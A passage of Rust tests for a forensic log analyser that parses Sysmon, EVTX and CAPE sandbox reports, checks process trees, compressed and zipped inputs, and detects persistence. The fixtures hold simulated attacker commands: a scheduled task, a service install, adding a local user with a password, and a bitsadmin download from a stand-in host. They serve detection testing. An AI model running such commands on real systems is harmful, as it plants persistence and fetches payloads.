const EVTX_SOURCE: &str = "corpus/logs/sysmon/session-2024-03-12.xml";

/// The corpus's EVTX files: path, the channel it holds, and what it is.
const EVTX_FILES: [(&str, &str, &str); 2] = [
    (
        "corpus/logs/evtx/session-2024-03-12-sysmon.evtx",
        "Microsoft-Windows-Sysmon/Operational",
        "the Sysmon events of the session (ids 1, 3, 7, 11, 12, 13, 14, 22, 23, 26)",
    ),
    (
        "corpus/logs/evtx/session-2024-03-12-security.evtx",
        "Security",
        "the Security events of the session (4688 process creation, 4698 scheduled task)",
    ),
];

fn evtx_source_events(channel: &str) -> Vec<evtx_writer::Event> {
    let xml = std::fs::read_to_string(root().join(EVTX_SOURCE)).expect("XML export");
    evtx_writer::events_from_xml(&xml)
        .into_iter()
        .filter(|e| e.channel == channel)
        .collect()
}

/// XML's five predefined entities, resolved.
fn xml_unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

/// The ground truth of one EVTX file, from the XML export's: the events of its channel,
/// and the indicators its records carry (the XML's, split by the record kind that gives
/// them: the task name comes from Security 4698, everything else from Sysmon), plus the
/// image and command line of each Security 4688.
fn evtx_ground_truth(path: &str, channel: &str, what: &str, data: &[u8]) -> Value {
    use md5::Md5;
    use sha2::{Digest, Sha256};
    let name = EVTX_SOURCE.rsplit('/').next().expect("name");
    let truth_path = root().join(format!("corpus/expected/logs/{name}.json"));
    let xml_truth: Value =
        serde_json::from_slice(&std::fs::read(truth_path).expect("XML truth")).expect("json");
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    let events: Vec<Value> = xml_truth["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| s(e, "channel") == Some(channel))
        .map(|e| {
            let mut e = e.clone();
            let matches: Vec<Value> = strs(&e, "match")
                .iter()
                .map(|m| Value::from(xml_unescape(m)))
                .collect();
            e["match"] = Value::from(matches);
            e
        })
        .collect();
    let mut iocs = serde_json::Map::new();
    for (group, list) in xml_truth["iocs"].as_object().expect("iocs") {
        let kept: Vec<Value> = list
            .as_array()
            .expect("list")
            .iter()
            .filter(|i| (s(i, "type") == Some("task_name")) == (channel == "Security"))
            .map(|i| {
                let mut i = i.clone();
                if let Some(raw) = s(&i, "raw").map(xml_unescape) {
                    if Some(raw.as_str()) == s(&i, "value") {
                        i.as_object_mut().map(|o| o.remove("raw"));
                    } else {
                        i["raw"] = Value::from(raw);
                    }
                }
                i
            })
            .collect();
        if !kept.is_empty() {
            iocs.insert(group.clone(), Value::from(kept));
        }
    }
    if channel == "Security" {
        // a 4688 names the new process's image and command line
        let mut files = Vec::new();
        let mut commands = Vec::new();
        for ev in evtx_source_events(channel) {
            let field = |name: &str| {
                ev.data
                    .iter()
                    .find(|(n, _)| n == name)
                    .map(|(_, v)| v.clone())
            };
            if ev.event_id != 4688 {
                continue;
            }
            if let Some(image) = field("NewProcessName") {
                files.push(serde_json::json!({"type": "file_path", "value": image}));
            }
            if let Some(command) = field("CommandLine") {
                commands.push(serde_json::json!({"type": "command", "value": command}));
            }
        }
        let mut tasks = iocs
            .remove("commands")
            .unwrap_or_else(|| Value::from(Vec::<Value>::new()));
        commands.append(tasks.as_array_mut().expect("list"));
        iocs.insert("files".into(), Value::from(files));
        iocs.insert("commands".into(), Value::from(commands));
    }
    serde_json::json!({
        "schema": "spoor-corpus-log/1",
        "path": path,
        "format": "evtx",
        "tool": "Windows EVTX 3.2 (ElfFile), written by tests/evtx_writer from the XML export",
        "description": format!(
            "{what}: {EVTX_SOURCE} as Windows stores it (chunks, string and template tables, BinXML templates, CRC32s)"
        ),
        "samples": xml_truth["samples"].clone(),
        "hashes": {
            "sha256": hex(&Sha256::digest(data)),
            "md5": hex(&Md5::digest(data)),
            "size": data.len(),
        },
        "event_count": events.len(),
        "events": events,
        "iocs": iocs,
    })
}

/// The committed EVTX files are what the writer makes of the XML export, byte for byte
/// (`SPOOR_UPDATE_CORPUS=1 cargo test --test tests logs::evtx` rewrites them and their ground truth).
#[test]
fn evtx_corpus_files_are_regenerated_byte_for_byte() {
    let update = std::env::var_os("SPOOR_UPDATE_CORPUS").is_some();
    for (path, channel, what) in EVTX_FILES {
        let events = evtx_source_events(channel);
        assert!(events.len() >= 5, "{channel}: {} events", events.len());
        let data = evtx_writer::write(&events);
        assert_eq!(data, evtx_writer::write(&events), "deterministic");
        let full = root().join(path);
        if update {
            std::fs::create_dir_all(full.parent().expect("dir")).expect("mkdir");
            std::fs::write(&full, &data).expect("write evtx");
            let truth = evtx_ground_truth(path, channel, what, &data);
            let name = path.rsplit('/').next().expect("name");
            let text = serde_json::to_string_pretty(&truth).expect("json") + "\n";
            std::fs::write(
                root().join(format!("corpus/expected/logs/{name}.json")),
                text,
            )
            .expect("write truth");
        }
        let committed = std::fs::read(&full).expect("committed EVTX file");
        assert!(
            committed == data,
            "{path} differs from what the writer makes of {EVTX_SOURCE}; \
             regenerate with SPOOR_UPDATE_CORPUS=1 cargo test --test tests logs::evtx"
        );
    }
}

/// Messages the `evtx` crate logs at warning level or worse (a record read with the wrong
/// size, a bad substitution, ...).
static EVTX_WARNINGS: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());

struct WarningLog;

impl log::Log for WarningLog {
    fn enabled(&self, m: &log::Metadata<'_>) -> bool {
        m.level() <= log::Level::Warn
    }
    fn log(&self, r: &log::Record<'_>) {
        if self.enabled(r.metadata()) {
            if let Ok(mut w) = EVTX_WARNINGS.lock() {
                w.push(format!("{}: {}", r.target(), r.args()));
            }
        }
    }
    fn flush(&self) {}
}

/// The `evtx` crate reads every record of the corpus's EVTX files with checksums
/// validated and no warning, and renders each as the event the XML export holds.
#[test]
fn evtx_corpus_files_parse_cleanly_with_the_evtx_crate() {
    let _ = log::set_logger(&WarningLog);
    log::set_max_level(log::LevelFilter::Warn);
    for (path, channel, _) in EVTX_FILES {
        let want = evtx_source_events(channel);
        let data = std::fs::read(root().join(path)).expect("EVTX file");
        let settings = evtx::ParserSettings::new().validate_checksums(true);
        let mut parser = evtx::EvtxParser::from_buffer(data)
            .expect("file header")
            .with_configuration(settings);
        let mut got = Vec::new();
        for record in parser.records() {
            let record = record.unwrap_or_else(|e| panic!("{path}: {e}"));
            if std::env::var_os("SPOOR_SHOW_EVTX").is_some() {
                eprintln!("{}", record.data);
            }
            let mut events = evtx_writer::events_from_xml(&record.data);
            assert_eq!(events.len(), 1, "{path}: {}", record.data);
            assert_eq!(record.event_record_id, events[0].record_id);
            got.push(events.remove(0));
        }
        assert_eq!(got.len(), want.len(), "{path}: records");
        for (g, w) in got.iter().zip(&want) {
            assert_eq!(g, w, "{path}: record {}", w.record_id);
        }
    }
    let warnings = EVTX_WARNINGS.lock().expect("lock");
    assert!(warnings.is_empty(), "evtx warned: {warnings:?}");
}

/// spoor reads the same events from the EVTX files as from the XML export.
#[test]
fn evtx_and_xml_exports_give_the_same_events() {
    let xml_path = EVTX_SOURCE;
    let xml_data = std::fs::read(root().join(xml_path)).expect("log");
    let (_, xml, _) = read(xml_path, &xml_data);
    let mut from_evtx = Vec::new();
    for (path, channel, _) in EVTX_FILES {
        let data = std::fs::read(root().join(path)).expect("EVTX file");
        let (format, events, report) = read(path, &data);
        assert_eq!(format, LogFormat::Evtx);
        assert!(report.warnings.is_empty(), "{path}: {:?}", report.warnings);
        assert!(events.iter().all(|e| e.get("channel") == Some(channel)));
        from_evtx.extend(events);
    }
    assert_eq!(from_evtx.len(), xml.len());
    from_evtx.sort_by_key(|e| (e.time.clone(), e.provenance.record_id));
    let mut xml = xml;
    xml.sort_by_key(|e| (e.time.clone(), e.provenance.record_id));
    for (a, b) in from_evtx.iter().zip(&xml) {
        assert_eq!(a.action, b.action);
        assert_eq!(a.target, b.target);
        assert_eq!(a.process, b.process);
        assert_eq!(a.time, b.time);
        assert_eq!(a.details, b.details, "record {:?}", a.provenance.record_id);
        assert_eq!(a.provenance.record_id, b.provenance.record_id);
    }
}

/// The session's Sysmon events written `times` over with fresh record ids: several chunks.
fn many_chunk_evtx(times: usize) -> (Vec<u8>, usize) {
    let once = evtx_source_events("Microsoft-Windows-Sysmon/Operational");
    let mut events = Vec::new();
    for round in 0..times {
        for e in &once {
            let mut e = e.clone();
            e.record_id = 1 + events.len() as u64;
            e.thread_id += round as u32;
            events.push(e);
        }
    }
    (evtx_writer::write(&events), events.len())
}

/// Record ids (first, last) of each chunk, from the chunk headers.
fn chunk_record_ids(data: &[u8]) -> Vec<(u64, u64)> {
    let u64_at = |at: usize| u64::from_le_bytes(data[at..at + 8].try_into().expect("8 bytes"));
    (4096..data.len())
        .step_by(65536)
        .map(|c| (u64_at(c + 24), u64_at(c + 32)))
        .collect()
}

#[test]
fn evtx_records_across_chunks() {
    let (data, n) = many_chunk_evtx(8);
    let chunks = chunk_record_ids(&data);
    assert!(chunks.len() >= 3, "{} chunks", chunks.len());
    assert_eq!(chunks.last().map(|c| c.1), Some(n as u64));
    let (format, events, report) = read("many.evtx", &data);
    assert_eq!(format, LogFormat::Evtx);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert_eq!(events.len(), n);
    let ids: Vec<u64> = events
        .iter()
        .filter_map(|e| e.provenance.record_id)
        .collect();
    assert_eq!(ids, (1..=n as u64).collect::<Vec<_>>());
}

/// A damaged chunk in the middle of a real file: a warning, and every record of the
/// chunks around it is still read.
#[test]
fn evtx_damaged_middle_chunk_keeps_the_others() {
    let (mut data, _) = many_chunk_evtx(8);
    let chunks = chunk_record_ids(&data);
    let bad = 4096 + 65536;
    let mut state = 0x2545_f491u32;
    for b in data[bad + 512..bad + 65536].iter_mut() {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        *b = state as u8;
    }
    let (_, events, report) = read("damaged.evtx", &data);
    assert!(!report.warnings.is_empty(), "the damaged chunk is reported");
    let ids: std::collections::BTreeSet<u64> = events
        .iter()
        .filter_map(|e| e.provenance.record_id)
        .collect();
    for (i, &(first, last)) in chunks.iter().enumerate() {
        if i != 1 {
            assert!(
                (first..=last).all(|id| ids.contains(&id)),
                "chunk {i} ({first}..={last}) read in full"
            );
        }
    }
}

/// The same session logged twice (the EVTX files and the XML export) gives one process
/// tree; a different image under a reused pid stays a separate process.
#[test]
fn one_session_in_several_logs_gives_one_tree() {
    let mut events = Vec::new();
    for path in [
        "corpus/logs/sysmon/session-2024-03-12.xml",
        "corpus/logs/evtx/session-2024-03-12-security.evtx",
        "corpus/logs/evtx/session-2024-03-12-sysmon.evtx",
    ] {
        let data = std::fs::read(root().join(path)).expect("log");
        events.extend(read(path, &data).1);
    }
    let f = analyse(&events);
    assert_eq!(f.process_tree.len(), 1, "{:#?}", f.process_tree);
    fn pids(n: &spoor::logs::analysis::ProcessNode, out: &mut Vec<u64>) {
        out.extend(n.pid);
        for c in &n.children {
            pids(c, out);
        }
    }
    let mut seen = Vec::new();
    pids(&f.process_tree[0], &mut seen);
    let mut unique = seen.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(seen.len(), unique.len(), "a process listed twice: {seen:?}");
    assert_eq!(unique, vec![4012, 4216, 4332, 4448, 4564, 4680]);

    // pid 4216 in another log, but another program: not merged.
    let mut other = events[..1].to_vec();
    let e = &mut other[0];
    e.provenance.source = Arc::from("other.xml");
    e.process.image = Some("C:\\Windows\\notepad.exe".into());
    e.process.parent_image = Some("C:\\Windows\\cmd.exe".into());
    let mut all = events.clone();
    all.extend(other);
    assert!(analyse(&all).process_tree.len() > 1);
}

// ---- real sandbox reports and event logs, as they come (issue 20) ----

fn source_file(dir: &Path, name: &str, data: &[u8]) -> spoor::input::Source {
    let path = dir.join(name);
    std::fs::write(&path, data).expect("write");
    spoor::input::Source::File {
        path,
        len: data.len() as u64,
    }
}

fn read_source_events(
    source: &spoor::input::Source,
    limit: u64,
) -> (logs::SourceSummary, Vec<Event>) {
    let mut events = Vec::new();
    // a source without events is read to its end, as `spoor events` does
    let drain = &mut |r: &mut dyn std::io::Read| {
        std::io::copy(r, &mut std::io::sink())
            .err()
            .map(|e| spoor::Warning::new(spoor::WarningCode::InputUnreadable, e.to_string()))
    };
    let summary = logs::read_source_limited(source, None, limit, &mut |e| events.push(e), drain);
    (summary, events)
}

/// A CAPE report with the keys in the order CAPE writes them: `statistics` first, then
/// the processing modules (the `CAPE` payloads, hundreds of KB), `info`, `behavior`, ...,
/// and the signatures with `malscore` and `ttps` last.
fn cape_report_in_real_order(payloads: usize) -> Vec<u8> {
    let payload = |i: usize| {
        serde_json::json!({
            "path": format!("/opt/CAPEv2/storage/analyses/4711/CAPE/{i:064x}"),
            "name": format!("{i:064x}"),
            "size": 241664,
            "md5": format!("{i:032x}"),
            "sha256": format!("{i:064x}"),
            "type": "PE32+ executable (DLL) (GUI) x86-64, for MS Windows",
            "pid": 2412,
            "process_name": "rundll32.exe",
            "module_path": "C:\\Windows\\System32\\rundll32.exe",
            "cape_type": "Unpacked PE Image: 64-bit DLL",
            "strings": (0..40).map(|j| format!("string {j} of payload {i}: GetProcAddress kernel32.dll")).collect::<Vec<_>>(),
            "yara": [], "cape_yara": [],
        })
    };
    let processes = serde_json::json!([
        {"process_id": 2412, "parent_id": 1840, "process_name": "rundll32.exe",
         "module_path": "C:\\Windows\\System32\\rundll32.exe", "first_seen": "2024-03-12 13:05:00,120",
         "environ": {"CommandLine": "rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\ld.dll,Start"},
         "calls": [{"timestamp": "2024-03-12 13:05:00,200", "api": "NtCreateMutant", "category": "synchronisation",
                    "arguments": [{"name": "MutexName", "value": "Global\\ld-4711"}]}]},
        {"process_id": 3100, "parent_id": 2412, "process_name": "cmd.exe",
         "module_path": "C:\\Windows\\System32\\cmd.exe",
         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []},
        {"process_id": 3104, "parent_id": 2412, "process_name": "cmd.exe",
         "module_path": "C:\\Windows\\System32\\cmd.exe",
         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []},
        {"process_id": 3108, "parent_id": 2412, "process_name": "cmd.exe",
         "module_path": "C:\\Windows\\System32\\cmd.exe",
         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []}
    ]);
    // serde_json keeps insertion order only with preserve_order; write the object by hand
    let parts: Vec<(&str, Value)> = vec![
        (
            "statistics",
            serde_json::json!({"processing": [{"name": "CAPE", "time": 12.4}], "signatures": [], "reporting": []}),
        ),
        (
            "CAPE",
            serde_json::json!({"payloads": (0..payloads).map(payload).collect::<Vec<_>>(), "configs": []}),
        ),
        (
            "info",
            serde_json::json!({"id": 4711, "category": "file", "package": "dll", "version": "2.4-CAPE",
            "machine": {"name": "win10", "manager": "KVM"}}),
        ),
        (
            "behavior",
            serde_json::json!({"processes": processes, "processtree": [],
            "summary": {"executed_commands": ["cmd.exe /c whoami"], "mutexes": ["Global\\ld-4711"]}}),
        ),
        (
            "debug",
            serde_json::json!({"log": ["2024-03-12 13:04:59,001 [root] INFO: Date set to: 20240312T13:04:59"], "errors": []}),
        ),
        ("dropped", serde_json::json!([])),
        (
            "network",
            serde_json::json!({"dns": [{"request": "ld.example.com", "type": "A", "answers": [{"type": "A", "data": "203.0.113.7"}]}]}),
        ),
        ("procmemory", serde_json::json!([])),
        (
            "target",
            serde_json::json!({"category": "file", "file": {"name": "ld.dll", "sha256": "a".repeat(64), "md5": "b".repeat(32)}}),
        ),
        (
            "signatures",
            serde_json::json!([
                {"name": "invalid_authenticode_signature", "description": "Authenticode signature is invalid", "severity": 1},
                {"name": "injection_rwx", "description": "Creates RWX memory", "severity": 2, "ttp": ["T1055"]}
            ]),
        ),
        ("malscore", serde_json::json!(4.2)),
        // the older CAPE shape: technique → signature
        (
            "ttps",
            serde_json::json!({"T1116": "invalid_authenticode_signature", "T1129": []}),
        ),
    ];
    let mut out = b"{".to_vec();
    for (i, (k, v)) in parts.iter().enumerate() {
        if i > 0 {
            out.extend_from_slice(b",\n");
        }
        out.extend_from_slice(format!("\"{k}\": ").as_bytes());
        out.extend_from_slice(serde_json::to_string_pretty(v).expect("json").as_bytes());
    }
    out.extend_from_slice(b"}\n");
    out
}

#[test]
fn cape_report_is_recognised_whatever_its_key_order() {
    let report = cape_report_in_real_order(120);
    let info_at = memchr::memmem::find(&report, b"\"info\"").expect("info");
    assert!(
        info_at > 300 * 1024,
        "info at {info_at}: the test must push it far in"
    );
    // the head alone does not tell
    assert_eq!(logs::detect(&report[..logs::SNIFF_BYTES]), LogFormat::Json);

    let dir = tempfile::tempdir().expect("dir");
    let (summary, events) = read_source_events(&source_file(dir.path(), "report.json", &report), 0);
    assert_eq!(summary.format, LogFormat::CapeReport, "{summary:?}");
    assert!(summary.warnings.is_empty(), "{:?}", summary.warnings);
    let f = analyse(&events);
    // three processes with the same command line and their own pids stay three
    let whoami: Vec<&Event> = events
        .iter()
        .filter(|e| {
            e.action == Action::ProcessCreate
                && e.process.command_line.as_deref() == Some("cmd.exe /c whoami")
        })
        .collect();
    let mut pids: Vec<u64> = whoami.iter().filter_map(|e| e.process.pid).collect();
    pids.sort_unstable();
    assert_eq!(pids, vec![3100, 3104, 3108], "{whoami:#?}");
    assert_eq!(f.process_tree.len(), 1);
    let rundll32 = &f.process_tree[0].children[0];
    assert_eq!(rundll32.pid, Some(2412));
    assert_eq!(rundll32.children.len(), 3, "{:#?}", f.process_tree);
    // signatures: current, older and unclaimed ttps shapes
    assert!(f.techniques.contains_key("T1055"));
    assert!(f.techniques["T1116"]
        .iter()
        .any(|w| w.contains("invalid_authenticode_signature")));
    // no flat JSON reading: the payload strings are not indicators
    assert!(f.iocs.iter().all(|i| !i.value.contains("GetProcAddress")));
    assert!(f
        .iocs
        .iter()
        .any(|i| i.kind == "domain" && i.value == "ld.example.com"));

    // a stream that cannot be read twice: the bytes looked at are kept and replayed
    let whole: Box<dyn std::io::Read + Send> = Box::new(std::io::Cursor::new(report.clone()));
    let (format, mut rest, note) = logs::json::recognise_report(whole, None);
    assert_eq!(format, LogFormat::CapeReport);
    assert!(note.is_none());
    let mut again = Vec::new();
    std::io::Read::read_to_end(&mut rest, &mut again).expect("replay");
    assert_eq!(again, report);
}

#[test]
fn json_of_another_schema_is_still_plain_json() {
    // `info` and `target` nested, not at the top: no sandbox report
    let doc = br#"{"data": {"info": 1, "target": 2, "behavior": 3, "signatures": []}, "x": "y"}"#;
    let dir = tempfile::tempdir().expect("dir");
    let (summary, events) = read_source_events(&source_file(dir.path(), "other.json", doc), 0);
    assert_eq!(summary.format, LogFormat::Json);
    assert!(events.is_empty());
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut enc, data).expect("gzip");
    enc.finish().expect("gzip")
}

fn bzip2(data: &[u8]) -> Vec<u8> {
    let mut enc = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    std::io::Write::write_all(&mut enc, data).expect("bzip2");
    enc.finish().expect("bzip2")
}

fn zstd(data: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
}

#[test]
fn compressed_logs_are_read_transparently() {
    let report = cape_report_in_real_order(20);
    let sysmon =
        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
    let dir = tempfile::tempdir().expect("dir");
    let (_, plain_report) = read_source_events(&source_file(dir.path(), "report.json", &report), 0);
    let (_, plain_sysmon) = read_source_events(&source_file(dir.path(), "s.xml", &sysmon), 0);
    assert!(!plain_report.is_empty() && !plain_sysmon.is_empty());
    let strip = |events: Vec<Event>| -> Vec<(Action, String)> {
        events.into_iter().map(|e| (e.action, e.target)).collect()
    };
    let (plain_report, plain_sysmon) = (strip(plain_report), strip(plain_sysmon));
    for (ext, pack) in [
        ("gz", gzip as fn(&[u8]) -> Vec<u8>),
        ("zst", zstd),
        ("bz2", bzip2),
    ] {
        let (summary, events) = read_source_events(
            &source_file(dir.path(), &format!("report.json.{ext}"), &pack(&report)),
            0,
        );
        assert_eq!(summary.format, LogFormat::CapeReport, "{ext}: {summary:?}");
        assert!(summary.warnings.is_empty(), "{ext}: {:?}", summary.warnings);
        assert_eq!(strip(events), plain_report, "{ext}");
        // the name says nothing: content decides
        let (summary, events) = read_source_events(
            &source_file(dir.path(), &format!("sysmon-{ext}.log"), &pack(&sysmon)),
            0,
        );
        assert_eq!(summary.format, LogFormat::SysmonXml, "{ext}");
        assert_eq!(strip(events), plain_sysmon, "{ext}");
    }
    // extract reads through the compression too, with field paths
    let path = dir.path().join("report.json.gz");
    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
        .extract_paths(std::slice::from_ref(&path));
    assert!(!extraction.had_errors(), "{:?}", extraction.sources);
    let domain = extraction
        .iocs
        .iter()
        .find(|i| i.value == "ld.example.com")
        .expect("domain in the gzip");
    assert!(domain.sightings[0]
        .field
        .as_deref()
        .is_some_and(|f| f.starts_with("/network/dns/")));
}

#[test]
fn decompression_bombs_and_damaged_streams_give_warnings() {
    let dir = tempfile::tempdir().expect("dir");
    // 64 MiB of log lines in a small gzip, read with a 1 MiB limit
    let line = b"2024-03-12T13:05:00Z host sshd[812]: Failed password for root from 192.0.2.44 port 52144 ssh2\n";
    let bomb: Vec<u8> = line.iter().copied().cycle().take(64 << 20).collect();
    let packed = gzip(&bomb);
    assert!(packed.len() < 1 << 20);
    let source = source_file(dir.path(), "auth.log.gz", &packed);
    let (summary, _) = read_source_events(&source, 1 << 20);
    assert_eq!(summary.format, LogFormat::Text);
    assert!(
        summary.warnings.iter().any(|w| w
            .message
            .contains("decompresses to more than 1048576 bytes")),
        "{summary:?}"
    );
    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions {
        max_bytes: 1 << 20,
        ..Default::default()
    })
    .extract_sources(std::slice::from_ref(&source));
    let report = &extraction.sources[0];
    assert_eq!(report.bytes, 1 << 20, "{report:?}");
    assert!(
        report.error.as_ref().is_some_and(|e| {
            e.code == spoor::WarningCode::SizeLimit && e.message.contains("1048576")
        }),
        "{report:?}"
    );
    assert!(extraction.iocs.iter().any(|i| i.value == "192.0.2.44"));

    // events: the limit is an error in the summary, never a silent cut
    let sysmon =
        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
    // after the first event, so that the head still says what the log is
    let first = memchr::memmem::find(&sysmon, b"</Event>").expect("event") + 8;
    let at = first;
    let padded_sysmon = [&sysmon[..at], &vec![b' '; 4 << 20], &sysmon[at..]].concat();
    let (summary, _) = read_source_events(
        &source_file(dir.path(), "big.xml.gz", &gzip(&padded_sysmon)),
        1 << 20,
    );
    assert!(
        summary.warnings.iter().any(|w| w
            .message
            .contains("decompresses to more than 1048576 bytes")),
        "{summary:?}"
    );

    // empty and damaged compressed data are warnings too
    let (summary, _) = read_source_events(&source_file(dir.path(), "empty.gz", &gzip(b"")), 0);
    assert!(
        summary
            .warnings
            .iter()
            .any(|w| w.message.contains("decompresses to nothing")),
        "{summary:?}"
    );
    let mut damaged = gzip(&bomb[..1 << 20]);
    damaged.truncate(damaged.len() / 2);
    let (summary, _) = read_source_events(&source_file(dir.path(), "cut.gz", &damaged), 0);
    assert!(
        summary.warnings.iter().any(|w| w.message.contains("gzip")),
        "{summary:?}"
    );
}

#[test]
fn zip_archives_of_logs_are_listed_and_executables_never_read() {
    use std::io::Write;
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("sandbox-logs.zip");
    let sysmon =
        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).expect("zip"));
        let deflated = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        let stored = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        zip.add_directory("logs/", stored).expect("dir");
        zip.start_file("logs/sysmon.xml", deflated).expect("member");
        zip.write_all(&sysmon).expect("write");
        zip.start_file("notes.txt", stored).expect("member");
        zip.write_all(b"C2 at update.example.net (198.51.100.23)\n")
            .expect("write");
        zip.start_file("logs/report.json.gz", stored)
            .expect("member");
        zip.write_all(&gzip(&cape_report_in_real_order(2)))
            .expect("write");
        zip.start_file("sample.exe", deflated).expect("member");
        zip.write_all(b"MZ\x90\x00 not really a program")
            .expect("write");
        zip.start_file("readme.dat", deflated).expect("member");
        zip.write_all(b"MZ\x90\x00 an executable under another name")
            .expect("write");
        zip.finish().expect("finish");
    }
    let (sources, errors) = spoor::input::expand_logs(std::slice::from_ref(&path));
    let names: Vec<String> = sources.iter().map(|s| s.name()).collect();
    let base = path.to_string_lossy().into_owned();
    assert_eq!(
        names,
        vec![
            format!("{base}!logs/sysmon.xml"),
            format!("{base}!notes.txt"),
            format!("{base}!logs/report.json.gz")
        ]
    );
    let refused: Vec<&str> = errors.iter().map(|e| e.source.as_str()).collect();
    assert_eq!(
        refused,
        vec![format!("{base}!sample.exe"), format!("{base}!readme.dat")]
    );
    assert!(errors
        .iter()
        .all(|e| e.message.contains("executable") && e.message.contains("not read")));
    // members are read as logs
    let (summary, events) = read_source_events(&sources[0], 0);
    assert_eq!(summary.format, LogFormat::SysmonXml);
    assert!(!events.is_empty());
    let (summary, events) = read_source_events(&sources[2], 0);
    assert_eq!(summary.format, LogFormat::CapeReport, "{summary:?}");
    assert!(!events.is_empty());
    // and extract finds what the text member says, naming the member
    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
        .extract_paths(std::slice::from_ref(&path));
    let domain = extraction
        .iocs
        .iter()
        .find(|i| i.value == "update.example.net")
        .expect("domain");
    assert_eq!(&*domain.sightings[0].source, format!("{base}!notes.txt"));
    assert_eq!(extraction.errors.len(), 2);
    // nothing was written next to the archive
    assert_eq!(std::fs::read_dir(dir.path()).expect("dir").count(), 1);
}

/// Sysmon / Security / System records as plain JSON lines.
fn win_lines(records: &[Value]) -> Vec<u8> {
    let mut out = Vec::new();
    for r in records {
        out.extend_from_slice(serde_json::to_string(r).expect("json").as_bytes());
        out.push(b'\n');
    }
    out
}

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

#[test]
fn quoted_commands_are_parsed_before_matching() {
    let records = [
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5120, "ParentProcessId": 4216,
            "Image": "C:\\Windows\\System32\\schtasks.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
            "CommandLine": "\"C:\\Windows\\System32\\schtasks.exe\" /Create /F /SC ONLOGON /TN \"\\Microsoft\\Windows\\Maintenance\\Upd\" /TR \"\\\"C:\\Users\\alice\\AppData\\Roaming\\Upd\\upd.exe\\\" -q\""}),
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5124, "ParentProcessId": 4216,
            "Image": "C:\\Windows\\System32\\sc.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
            "CommandLine": "\"C:\\Windows\\System32\\sc.exe\" create UpdSvc binPath= \"C:\\ProgramData\\Upd\\svc.exe\" start= auto"}),
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5128, "ParentProcessId": 4216,
            "Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
            "CommandLine": "cmd.exe /c \"\"C:\\Windows\\System32\\net.exe\" user support P@ssw0rd! /add\""}),
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5132, "ParentProcessId": 4216,
            "Image": "C:\\Windows\\System32\\bitsadmin.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
            "CommandLine": "bitsadmin.exe /transfer upd /download /priority high http://update.example.com/u.bin C:\\Users\\alice\\u.bin"}),
        // not persistence: a word that ends in "sc"
        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5136, "ParentProcessId": 4216,
            "Image": "C:\\Tools\\disc.exe", "CommandLine": "disc create image.iso"}),
    ];
    let (format, events, _) = read("cmds.ndjson", &win_lines(&records));
    assert_eq!(format, LogFormat::SysmonJson);
    let f = analyse(&events);
    let got: Vec<(&str, &str, Option<&str>)> = f
        .persistence
        .iter()
        .map(|p| (p.technique.as_str(), p.location.as_str(), p.runs.as_deref()))
        .collect();
    assert!(
        got.contains(&(
            "T1053.005",
            "\\Microsoft\\Windows\\Maintenance\\Upd",
            Some("\"C:\\Users\\alice\\AppData\\Roaming\\Upd\\upd.exe\" -q")
        )),
        "{got:#?}"
    );
    assert!(
        got.contains(&("T1543.003", "UpdSvc", Some("C:\\ProgramData\\Upd\\svc.exe"))),
        "{got:#?}"
    );
    assert!(got.contains(&("T1136.001", "support", None)), "{got:#?}");
    assert!(
        got.contains(&("T1197", "upd", Some("http://update.example.com/u.bin"))),
        "{got:#?}"
    );
    assert_eq!(got.len(), 4, "{got:#?}");
    assert!(f.remediation.services_to_remove.contains("UpdSvc"));
    assert!(f
        .remediation
        .tasks_to_remove
        .contains("\\Microsoft\\Windows\\Maintenance\\Upd"));
}

#[test]
fn benign_os_activity_is_not_persistence_and_services_need_creating() {
    let set = |key: &str, details: &str, image: &str| {
        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 812,
            "Image": image, "TargetObject": key, "Details": details})
    };
    let records = [
        set("HKLM\\System\\CurrentControlSet\\Services\\VSS\\Diag\\System Writer\\IDENTIFY (Leave)", "Binary Data", "C:\\Windows\\system32\\VSSVC.exe"),
